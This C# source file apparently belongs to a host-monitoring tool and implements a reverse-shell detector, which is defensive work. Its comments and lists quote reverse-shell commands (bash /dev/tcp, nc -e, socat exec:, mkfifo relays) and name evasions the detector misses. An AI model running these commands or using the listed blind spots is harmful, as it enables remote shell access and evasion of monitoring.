using System.Globalization;

namespace HardenRunner.Monitoring.Detectors;

/// <summary>
/// reverse-shell: a shell started with an internet socket as its stdin or stdout (<c>bash -i &gt;&amp; /dev/tcp/h/p 0&gt;&amp;1</c>,
/// <c>nc -e /bin/sh</c>, a Python one-liner that dup2()s a socket and spawns sh), checked at exec from
/// /proc/&lt;pid&gt;/fd/{0,1} and the process's own /proc/&lt;pid&gt;/net tables (Unix sockets and pipes do not count);
/// and netcat/socat command lines that hand a program to the network (<c>nc -e</c>, <c>ncat --sh-exec</c>,
/// <c>socat … exec:</c>). Blind to shells that get a pty from a relay (<c>socat … pty</c>, <c>python pty.spawn</c>),
/// to pipe-based relays (<c>mkfifo … | sh | nc</c>) and to descriptors swapped after exec.
/// </summary>
internal static class ReverseShellDetector
{
    private static readonly HashSet<string> Shells = new(StringComparer.Ordinal)
    {
        "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "fish", "csh", "tcsh", "busybox", "pwsh", "rbash",
    };

    private static readonly HashSet<string> NetcatLike = new(StringComparer.Ordinal)
    {
        "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
    };

    /// <summary>Whether the fast path should capture stdin/stdout of this process.</summary>
    public static bool WantsDescriptors(ProcessEntry p) => IsShell(p) || NetcatLike.Contains(p.Name);

    public static bool IsShell(ProcessEntry p) => Shells.Contains(p.Name) || (p.Comm is not null && Shells.Contains(p.Comm));

    public static Finding? Inspect(ExecObservation o, Func<int, ulong, InetSocket?> findSocket)
    {
        var p = o.Process;
        if (IsShell(p) && (o.StdinSocket != 0 || o.StdoutSocket != 0))
        {
            var inode = o.StdinSocket != 0 ? o.StdinSocket : o.StdoutSocket;
            var socket = findSocket(p.Pid, inode) ?? (o.StdoutSocket != 0 && o.StdoutSocket != inode ? findSocket(p.Pid, o.StdoutSocket) : null);
            if (socket is { } s)
            {
                var which = o.StdinSocket != 0 && o.StdoutSocket != 0 ? "stdin and stdout" : o.StdinSocket != 0 ? "stdin" : "stdout";
                return new Finding(
                    DetectionTypes.ReverseShell,
                    DetectionTypes.Critical,
                    $"shell {p.Name} (pid {p.Pid}) has a {s.Protocol} socket to {s.Remote} as its {which}",
                    new Dictionary<string, string>
                    {
                        ["method"] = "stdio-socket",
                        ["protocol"] = s.Protocol,
                        ["remote"] = s.Remote.ToString(),
                        ["local"] = s.Local.ToString(),
                        ["descriptors"] = which,
                    },
                    p.Pid,
                    "pid:" + p.Pid.ToString(CultureInfo.InvariantCulture));
            }
        }

        if (NetcatLike.Contains(p.Name) && p.Cmdline is { } cmdline && HandsProgramToNetwork(p.Name, CommandLine.Split(cmdline)))
        {
            return new Finding(
                DetectionTypes.ReverseShell,
                DetectionTypes.Critical,
                $"{p.Name} (pid {p.Pid}) connects a program to the network",
                new Dictionary<string, string> { ["method"] = "command-line" },
                p.Pid,
                "pid:" + p.Pid.ToString(CultureInfo.InvariantCulture));
        }

        return null;
    }

    /// <summary><c>nc/ncat -e|-c|--exec|--sh-exec|--lua-exec PROG</c>, or <c>socat</c> with an <c>exec:</c>/<c>system:</c> address.</summary>
    internal static bool HandsProgramToNetwork(string name, List<string> args)
    {
        if (name == "socat")
        {
            return args.Skip(1).Any(a => a.StartsWith("exec:", StringComparison.OrdinalIgnoreCase) || a.StartsWith("system:", StringComparison.OrdinalIgnoreCase));
        }

        foreach (var a in args.Skip(1))
        {
            if (a is "-e" or "-c" or "--exec" or "--sh-exec" or "--lua-exec"
                || a.StartsWith("--exec=", StringComparison.Ordinal) || a.StartsWith("--sh-exec=", StringComparison.Ordinal)
                || (a.Length > 2 && a[0] == '-' && a[1] != '-' && (a.EndsWith('e') || a.EndsWith('c')) && a.Skip(1).All(char.IsAsciiLetter)))
            {
                return true;
            }
        }

        return false;
    }
}
